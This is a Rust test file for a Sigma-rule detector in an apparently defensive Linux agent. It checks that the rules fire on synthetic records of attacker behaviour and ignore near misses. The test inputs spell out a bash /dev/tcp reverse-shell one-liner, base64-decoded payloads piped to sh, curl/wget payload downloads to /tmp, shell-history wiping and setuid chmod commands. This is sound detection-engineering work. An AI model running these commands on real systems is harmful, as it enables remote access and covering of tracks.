//! The project's own rules (agent/tests/sigma-rules) on synthetic records:
//! every modifier and condition form SigmaHQ's Linux rules use, each shown
//! to fire on what it names and to stay quiet on a near miss.

use std::net::IpAddr;
use std::path::Path;
use std::sync::Arc;

use super::fields::{Category, Users};
use super::rules::{RuleSet, Source};
use super::*;
use crate::detect::Severity;
use crate::record::{Conn, FileWrite, ProcessExec};

fn sources(dir: &str) -> Vec<Source> {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join(dir);
    let mut out: Vec<Source> = std::fs::read_dir(&dir)
        .expect("rule dir")
        .map(|e| e.expect("entry").path())
        .filter(|p| p.extension().is_some_and(|e| e == "yml"))
        .map(|p| Source {
            file: p.file_name().unwrap().to_string_lossy().into_owned(),
            text: std::fs::read_to_string(&p).expect("rule"),
        })
        .collect();
    out.sort_by(|a, b| a.file.cmp(&b.file));
    out
}

pub fn project_rules() -> RuleSet {
    RuleSet::compile(&sources("tests/sigma-rules"))
}

fn detector() -> SigmaDetector {
    let users: Users = [(0, "root".to_string())].into_iter().collect();
    SigmaDetector::new(Arc::new(project_rules()), Arc::new(users))
}

pub fn exec(exe: &str, argv: &[&str], parent: Option<(&str, &str)>) -> Body {
    Body::ProcessExec(ProcessExec {
        pid: 4242,
        ppid: 4241,
        uid: 0,
        gid: 0,
        comm: exe.rsplit('/').next().unwrap_or(exe).to_string(),
        exe: exe.to_string(),
        argv: argv.iter().map(|a| a.to_string()).collect(),
        argv_truncated: false,
        cgroup_id: 1,
        stdio_socket: None,
        parent_exe: parent.map(|(e, _)| Arc::from(e)),
        parent_cmdline: parent.map(|(_, c)| Arc::from(c)),
        cwd: Some("/root".into()),
        auid: Some(1000),
        start_time: Some(1),
        exe_file: None,
        script_file: None,
        file_owner: None,
        exe_arg: None,
    })
}

fn conn(exe: &str, dst: &str, initiated: bool) -> Body {
    let c = Conn {
        pid: Some(4242),
        comm: "bash".into(),
        exe: Some(Arc::from(exe)),
        uid: Some(0),
        proto: "tcp",
        src_ip: "10.0.0.2".parse::<IpAddr>().unwrap(),
        src_port: 40000,
        dst_ip: dst.parse::<IpAddr>().unwrap(),
        dst_port: 4444,
        community_id: String::new(),
        old_state: None,
    };
    if initiated {
        Body::NetConnect(c)
    } else {
        Body::NetAccept(c)
    }
}

fn write(exe: &str, path: &str) -> Body {
    Body::FileWrite(FileWrite {
        pid: 4242,
        comm: "curl".into(),
        exe: Some(Arc::from(exe)),
        path: path.into(),
        file: None,
    })
}

/// Ids of the rules that fire on `body`.
fn fired(d: &mut SigmaDetector, body: &Body) -> Vec<String> {
    let mut out = Vec::new();
    d.on_record(0.0, body, &mut out);
    let mut ids: Vec<String> = out
        .iter()
        .map(|f| f.evidence["rule_id"].as_str().unwrap().to_string())
        .collect();
    ids.sort();
    ids
}

const B64_SHELL: &str = "4572e894-44ed-44c0-9270-a3557fe37aa9";
const B64_MARKER: &str = "6ef704ce-5338-4d5d-a5f3-713b6a027d07";
const DEVTCP: &str = "d34b1e1d-7449-446a-91dc-5ef59e5c914e";
const SHELL_CONN: &str = "c4e08fc4-eebc-4cf8-abe6-76640464db80";
const SETUID: &str = "0d7abd00-4dbd-448a-8e04-86238412a05e";
const HISTORY: &str = "46f2b9ae-9bf5-4838-8db2-5a76d64bc3fe";
const CRONTAB: &str = "1c2fbe0a-a2f2-4ac8-a492-94c3d23f280f";
const DOWNLOAD: &str = "498a28bc-141b-4bc2-bb49-df92bda0e647";
const TMP_EXEC: &str = "5ffeec52-35d1-4ed4-851e-ad09e76808b2";
const TMP_WRITE: &str = "3046d9ed-fb7a-410a-a98c-90c4ea2609a2";
const WINDASH: &str = "b1aa676e-551a-4f25-b302-8997ef38158a";

pub fn fire_every_finding() -> Vec<Finding> {
    let mut d = detector();
    let mut out = Vec::new();
    d.on_record(
        0.0,
        &exec("/usr/bin/chmod", &["chmod", "u+s", "/x"], None),
        &mut out,
    );
    d.on_record(0.0, &conn("/usr/bin/bash", "127.0.0.1", true), &mut out);
    d.on_record(0.0, &write("/usr/bin/curl", "/tmp/x"), &mut out);
    out
}

#[test]
fn the_project_rules_all_load() {
    let set = project_rules();
    assert!(set.is_good(), "{:?}", set.errors);
    assert!(set.unsupported.is_empty(), "{:?}", set.unsupported);
    assert_eq!(set.loaded(), 11);
    assert_eq!(set.loaded_in(Category::ProcessCreation), 9);
    assert_eq!(set.loaded_in(Category::NetworkConnection), 1);
    assert_eq!(set.loaded_in(Category::FileEvent), 1);
}

#[test]
fn endswith_and_a_list_of_contains() {
    let mut d = detector();
    assert_eq!(
        fired(
            &mut d,
            &exec("/usr/bin/chmod", &["chmod", "u+s", "/tmp/x"], None)
        ),
        [SETUID]
    );
    assert_eq!(
        fired(
            &mut d,
            &exec("/bin/chmod", &["chmod", "4755", "/tmp/x"], None)
        ),
        [SETUID]
    );
    // Case-insensitive, as Sigma's default is.
    assert_eq!(
        fired(&mut d, &exec("/bin/CHMOD", &["chmod", "G+S", "x"], None)),
        [SETUID]
    );
    assert!(fired(
        &mut d,
        &exec("/usr/bin/chmod", &["chmod", "755", "/tmp/x"], None)
    )
    .is_empty());
    // endswith, not contains: a different binary named like chmod.
    assert!(fired(
        &mut d,
        &exec("/usr/bin/chmod2", &["chmod2", "u+s", "x"], None)
    )
    .is_empty());
}

#[test]
fn all_re_and_all_of_selection_prefix() {
    let mut d = detector();
    let parent = (
        "/usr/bin/bash",
        "bash -c echo ZWNobyBoaQ== | base64 -d | sh",
    );
    assert_eq!(
        fired(&mut d, &exec("/usr/bin/sh", &["sh"], Some(parent))),
        [B64_SHELL]
    );
    // `|all`: both values must be there (no -d).
    let no_decode = ("/usr/bin/bash", "bash -c echo ZWNobyBoaQ== | base64 | sh");
    assert!(fired(&mut d, &exec("/usr/bin/sh", &["sh"], Some(no_decode))).is_empty());
    // `|re`: the pipe must feed a shell, not `shuf`.
    let to_shuf = (
        "/usr/bin/bash",
        "bash -c echo ZWNobyBoaQ== | base64 -d | shuf",
    );
    assert!(fired(&mut d, &exec("/usr/bin/sh", &["sh"], Some(to_shuf))).is_empty());
    // `all of selection_*`: the image must be a shell too.
    assert!(fired(
        &mut d,
        &exec("/usr/bin/python3", &["python3"], Some(parent))
    )
    .is_empty());
}

#[test]
fn base64offset_finds_the_marker_at_every_offset() {
    let mut d = detector();
    use base64::Engine as _;
    for pad in ["", "a", "ab"] {
        let payload = format!("echo {pad}vigil-sigma-payload");
        let enc = base64::engine::general_purpose::STANDARD.encode(payload.as_bytes());
        let cmd = format!("echo {enc} | base64 -d | sh");
        let parent = ("/usr/bin/bash", cmd.as_str());
        let ids = fired(
            &mut d,
            &exec("/usr/bin/base64", &["base64", "-d"], Some(parent)),
        );
        assert_eq!(ids, [B64_MARKER], "offset of {pad:?}");
    }
    let enc = base64::engine::general_purpose::STANDARD.encode(b"echo vigil-other-payload");
    let cmd = format!("echo {enc}");
    assert!(fired(
        &mut d,
        &exec(
            "/usr/bin/base64",
            &["base64", "-d"],
            Some(("/usr/bin/bash", &cmd))
        )
    )
    .is_empty());
}

#[test]
fn parentheses_and_or() {
    let mut d = detector();
    let one_liner = "bash -c bash -i >& /dev/tcp/127.0.0.1/4444 0>&1";
    let argv: Vec<&str> = one_liner.split(' ').collect();
    assert_eq!(fired(&mut d, &exec("/usr/bin/bash", &argv, None)), [DEVTCP]);
    // The right side of the `or`: an interactive bash whose parent wrote the redirection.
    assert_eq!(
        fired(
            &mut d,
            &exec(
                "/usr/bin/bash",
                &["bash", "-i"],
                Some(("/usr/bin/bash", one_liner))
            )
        ),
        [DEVTCP]
    );
    // The parenthesised `and`: not bash → no match.
    assert!(fired(
        &mut d,
        &exec(
            "/usr/bin/zsh",
            &["zsh", "-i"],
            Some(("/usr/bin/bash", one_liner))
        )
    )
    .is_empty());
    assert!(fired(&mut d, &exec("/usr/bin/bash", &["bash", "-i"], None)).is_empty());
}

#[test]
fn one_of_selection_prefix() {
    let mut d = detector();
    assert_eq!(
        fired(
            &mut d,
            &exec("/usr/bin/bash", &["bash", "-c", "history -c"], None)
        ),
        [HISTORY]
    );
    assert_eq!(
        fired(
            &mut d,
            &exec("/usr/bin/rm", &["rm", "-f", "/root/.bash_history"], None)
        ),
        [HISTORY]
    );
    assert_eq!(
        fired(
            &mut d,
            &exec(
                "/usr/bin/ln",
                &["ln", "-sf", "/dev/null", "/root/.zsh_history"],
                None
            )
        ),
        [HISTORY]
    );
    assert!(fired(
        &mut d,
        &exec("/usr/bin/rm", &["rm", "-f", "/root/notes"], None)
    )
    .is_empty());
    assert!(fired(
        &mut d,
        &exec("/usr/bin/cat", &["cat", "/root/.bash_history"], None)
    )
    .is_empty());
}

#[test]
fn not_one_of_filters() {
    let mut d = detector();
    assert_eq!(
        fired(
            &mut d,
            &exec("/usr/bin/crontab", &["crontab", "/tmp/jobs"], None)
        ),
        [CRONTAB]
    );
    assert_eq!(
        fired(&mut d, &exec("/usr/bin/crontab", &["crontab", "-e"], None)),
        [CRONTAB]
    );
    assert!(fired(&mut d, &exec("/usr/bin/crontab", &["crontab", "-l"], None)).is_empty());
    assert!(fired(&mut d, &exec("/usr/bin/crontab", &["crontab"], None)).is_empty());
}

#[test]
fn startswith_and_download_rules() {
    let mut d = detector();
    assert_eq!(
        fired(
            &mut d,
            &exec(
                "/usr/bin/curl",
                &["curl", "-s", "-o", "/tmp/payload", "http://x/"],
                None
            )
        ),
        [DOWNLOAD]
    );
    assert_eq!(
        fired(
            &mut d,
            &exec(
                "/usr/bin/wget",
                &["wget", "-q", "-O", "/dev/shm/p", "http://x/"],
                None
            )
        ),
        [DOWNLOAD]
    );
    assert!(fired(
        &mut d,
        &exec(
            "/usr/bin/curl",
            &["curl", "-o", "/home/u/file", "http://x/"],
            None
        )
    )
    .is_empty());
    assert_eq!(
        fired(&mut d, &exec("/tmp/payload", &["/tmp/payload"], None)),
        [TMP_EXEC]
    );
    assert!(fired(&mut d, &exec("/usr/bin/tmp/payload", &["payload"], None)).is_empty());
}

#[test]
fn windash_and_all_of_them() {
    let mut d = detector();
    for flag in ["-d", "/d", "–d"] {
        assert_eq!(
            fired(
                &mut d,
                &exec("/usr/bin/openssl", &["openssl", "base64", flag], None)
            ),
            [WINDASH],
            "{flag}"
        );
    }
    // `all of them`: every selection; no base64 → none.
    assert!(fired(
        &mut d,
        &exec("/usr/bin/openssl", &["openssl", "enc", "-d"], None)
    )
    .is_empty());
}

#[test]
fn cidr_and_network_fields() {
    let mut d = detector();
    assert_eq!(
        fired(&mut d, &conn("/usr/bin/bash", "127.0.0.1", true)),
        [SHELL_CONN]
    );
    assert_eq!(
        fired(&mut d, &conn("/usr/bin/bash", "2001:db8::1", true)),
        [SHELL_CONN]
    );
    // `not` over `|cidr`: link-local is filtered.
    assert!(fired(&mut d, &conn("/usr/bin/bash", "169.254.10.1", true)).is_empty());
    // Initiated: an accepted connection is not the shell's.
    assert!(fired(&mut d, &conn("/usr/bin/bash", "127.0.0.1", false)).is_empty());
    assert!(fired(&mut d, &conn("/usr/bin/curl", "127.0.0.1", true)).is_empty());
}

#[test]
fn file_event_rules_read_file_writes() {
    let mut d = detector();
    assert_eq!(
        fired(&mut d, &write("/usr/bin/curl", "/tmp/payload")),
        [TMP_WRITE]
    );
    assert!(fired(&mut d, &write("/usr/bin/curl", "/home/u/payload")).is_empty());
    assert!(fired(&mut d, &write("/usr/bin/vim", "/tmp/notes")).is_empty());
}

#[test]
fn user_logon_id_and_directory_fields() {
    let rule = r#"
title: root from a login of uid 1000 in /srv
id: 11111111-2222-4333-8444-555555555555
logsource: {category: process_creation, product: linux}
detection:
    selection:
        User: root
        LogonId: 1000
        CurrentDirectory: /root
        ProcessId: 4242
        ParentProcessId: 4241
    condition: selection
level: low
"#;
    let set = RuleSet::compile(&[Source {
        file: "r.yml".into(),
        text: rule.into(),
    }]);
    assert_eq!(set.loaded(), 1, "{:?} {:?}", set.errors, set.unsupported);
    let users: Users = [(0, "root".to_string())].into_iter().collect();
    let mut d = SigmaDetector::new(Arc::new(set), Arc::new(users));
    assert_eq!(fired(&mut d, &exec("/usr/bin/id", &["id"], None)).len(), 1);
    // Without the user table the uid is matched as a number: no `root`.
    d.set_rules(d.rules().clone(), Arc::new(Users::new()));
    assert!(fired(&mut d, &exec("/usr/bin/id", &["id"], None)).is_empty());
}

#[test]
fn alerts_carry_attribution_techniques_and_severity() {
    let mut d = detector();
    let mut out = Vec::new();
    d.on_record(
        0.0,
        &exec("/usr/bin/chmod", &["chmod", "u+s", "/x"], None),
        &mut out,
    );
    let f = &out[0];
    assert_eq!(f.detector, "sigma");
    assert_eq!(f.severity, Severity::Medium);
    assert_eq!(f.techniques, ["T1548.001"]);
    assert_eq!(
        f.evidence["rule_title"],
        "Setuid or setgid bit set with chmod"
    );
    assert_eq!(f.evidence["author"], "Vigil developers");
    assert_eq!(
        f.evidence["falsepositives"][0],
        "Package installation of setuid helpers"
    );
    assert_eq!(f.evidence["fields"]["CommandLine"], "chmod u+s /x");
    assert!(f.key.starts_with(SETUID));
}

#[test]
fn unsupported_and_bad_rules_are_reported_with_file_and_line() {
    let set = RuleSet::compile(&sources("tests/sigma-check"));
    assert_eq!(set.loaded(), 1);
    let find = |v: &[rules::Trouble], file: &str| {
        v.iter()
            .find(|t| t.file == file)
            .unwrap_or_else(|| panic!("{file} not listed: {v:?}"))
            .clone()
    };
    let w = find(&set.unsupported, "windows.yml");
    assert_eq!(w.line, 7, "{w}");
    assert!(w.reason.contains("product `windows`"), "{w}");
    let f = find(&set.unsupported, "unknown_field.yml");
    assert_eq!(f.line, 11, "{f}");
    assert!(f.reason.contains("`Hashes`"), "{f}");
    let m = find(&set.errors, "bad_modifier.yml");
    assert!(m.reason.contains("sounds_like"), "{m}");
    assert_eq!(m.line, 10, "{m}");
    let y = find(&set.errors, "bad_yaml.yml");
    assert_eq!(y.line, 3, "{y}"); // where the parser found the flow sequence unclosed
    assert!(!set.is_good());
}

#[test]
fn duplicate_ids_are_errors_and_the_first_stays() {
    let mut src = sources("tests/sigma-rules");
    let again = Source {
        file: "copy.yml".into(),
        text: src[0].text.clone(),
    };
    src.push(again);
    let set = RuleSet::compile(&src);
    assert_eq!(set.loaded(), 11);
    assert_eq!(set.errors.len(), 1);
    assert!(
        set.errors[0].reason.contains("duplicate"),
        "{:?}",
        set.errors
    );
}
